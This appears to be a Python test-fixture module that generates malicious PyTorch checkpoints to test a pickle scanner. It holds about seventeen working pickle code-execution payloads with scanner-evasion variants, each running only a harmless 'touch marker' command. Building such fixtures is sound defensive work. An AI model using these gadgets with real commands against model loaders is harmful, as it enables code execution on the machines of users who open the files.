"""Makes hostile files with a harmless payload: it creates a marker file, nothing else."""

import io
import pickle
import struct
import tarfile
import warnings
import zipfile

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
NO_STORAGES = pickle.dumps(0, 2) + pickle.dumps([], 2)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def payloads(marker):
    """Pickle programs, without PROTO and STOP, that create the marker when they run, by name."""
    run = text(f"touch {marker}")
    code = text(f"__import__('pathlib').Path({str(marker)!r}).touch()")
    return {
        "reduce": b"cposix\nsystem\n" + run + b"\x85R",
        "eval": b"cbuiltins\neval\n" + code + b"\x85R",
        "old name of a module": b"c__builtin__\neval\n" + code + b"\x85R",
        "inst": b"(" + run + b"iposix\nsystem\n",
        "obj": b"(cposix\nsystem\n" + run + b"o",
        "thrown away": b"cposix\nsystem\n" + run + b"\x85R0N",
        "stack global": text("posix") + text("system") + b"\x93" + run + b"\x85R",
        "computed name": (
            b"cbuiltins\nstr\n"
            + text("posix")
            + b"\x85R"
            + text("system")
            + b"\x93"
            + run
            + b"\x85R"
        ),
        "name from a memo": (
            text("posix") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93" + run + b"\x85R"
        ),
        "memo that changes": (
            b"ccollections\nOrderedDict\nq\x000cposix\nsystem\nq\x000h\x00" + run + b"\x85R"
        ),
        "getattr": (
            b"cbuiltins\ngetattr\n"
            + b"cbuiltins\n__import__\n"
            + text("os")
            + b"\x85R"
            + text("system")
            + b"\x86R"
            + run
            + b"\x85R"
        ),
        "dotted name": b"\x80\x04"
        + text("torch")
        + text("serialization.os.system")
        + b"\x93"
        + run
        + b"\x85R",
        "pickle in a pickle": (
            b"cpickle\nloads\n(c_codecs\nencode\n"
            + text((b"\x80\x02cposix\nsystem\n" + run + b"\x85R.").decode("latin1"))
            + text("latin1")
            + b"\x86RtR"
        ),
        "checkpoint in a pickle": (
            b"ctorch.storage\n_load_from_bytes\nB"
            + (lambda inner: struct.pack("<I", len(inner)) + inner)(
                zip_checkpoint(b"\x80\x02cposix\nsystem\n" + run + b"\x85R.")
            )
            + b"\x85R"
        ),
        "subprocess": b"csubprocess\nrun\n" + b"](" + text("touch") + text(str(marker)) + b"e\x85R",
        "map": (b"cbuiltins\nlist\ncbuiltins\nmap\ncposix\nsystem\n](" + run + b"e\x86R\x85R"),
        "hidden in a tensor": (
            b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\nctorch\nTensor\n("
            + run
            + b"tNtR"
        ),
    }


def zip_checkpoint(pickle_, *, extra=(), method=zipfile.ZIP_STORED):
    """Return the bytes of a checkpoint with this pickle, and other records, (name, content)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore")  # duplicate names, which is the point
        archive.writestr("file/data.pkl", pickle_)
        archive.writestr("file/byteorder", b"little")
        archive.writestr("file/data/0", bytes(16))
        archive.writestr("file/version", b"3\n")
        archive.writestr("file/.data/serialization_id", b"0" * 40)
        for name, content in extra:
            archive.writestr(name, content)
    return buffer.getvalue()


def legacy_checkpoint(pickle_):
    """Return the bytes of a checkpoint as PyTorch 1.5 wrote it."""
    rest = [1001, {}]
    return MAGIC + b"".join(pickle.dumps(x, 2) for x in rest) + pickle_ + pickle.dumps([], 2)


def tar_checkpoint(pickle_, *, storages=NO_STORAGES):
    """Return the bytes of a checkpoint as PyTorch 0.1 wrote it."""
    parts = {
        "sys_info": pickle.dumps({}, 2),
        "pickle": pickle_,
        "tensors": pickle.dumps(0, 2),
        "storages": storages,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name, data in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def storage(kind="FloatStorage", key="0", location="cpu", count=4):
    """Return pickle instructions that refer to a storage."""
    number = b"\x8a" + bytes([9]) + count.to_bytes(9, "little", signed=True)
    named = b"ctorch\n" + kind.encode() + b"\n" + text(key) + text(location)
    return b"(" + text("storage") + named + number + b"tQ"


def tensor(offset=0, shape=(4,), stride=(1,), **kwargs):
    """Return pickle instructions that rebuild a tensor."""
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage(**kwargs)
        + b"".join(number(n) for n in [offset])
        + b"("
        + b"".join(map(number, shape))
        + b"t("
        + b"".join(map(number, stride))
        + b"t"
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )


def number(value):
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + data
